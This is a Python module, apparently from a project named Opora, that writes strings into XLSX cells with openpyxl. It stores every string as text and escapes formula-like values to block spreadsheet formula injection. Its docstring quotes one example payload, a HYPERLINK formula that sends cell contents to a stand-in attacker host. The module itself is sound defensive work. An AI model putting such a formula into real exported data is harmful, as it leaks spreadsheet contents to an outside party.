"""The one way Opora writes a string into an XLSX cell: always as text, never as a formula.

openpyxl turns a string that starts with ``=`` into a live formula, and a spreadsheet program may take a cell
starting with ``+``, ``-``, ``@``, a tab or a carriage return for one when it is edited (formula injection: a
person named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")``). Every string goes through :func:`put` (a cell
of a normal sheet) or :func:`row` (a row of a write-only sheet): its cell type is forced to text (``s``), and a
string starting with one of those characters also gets Excel's *quote prefix* style (what typing ``'`` before
the value does), so it is shown and edited as text. The value itself is kept as it was (an export read back gives
the same string). Characters XLSX cannot hold (control characters) are dropped rather than failing the file.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(text: str) -> bool:
    """Would a spreadsheet take this string for a formula?"""
    return text.startswith(FORMULA_STARTS)


def as_text(cell: Cell, value: str) -> Cell:
    """Store ``value`` into ``cell`` as text (escaped when it looks like a formula)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
    if is_risky(value):
        cell.quotePrefix = True
    return cell


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column, value)`` with every string stored as text."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        return as_text(cell, value)
    cell.value = value
    return cell


def row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` of a write-only sheet, every string a text cell."""
    from openpyxl.cell import WriteOnlyCell

    return [as_text(WriteOnlyCell(ws), v) if isinstance(v, str) else v for v in values]
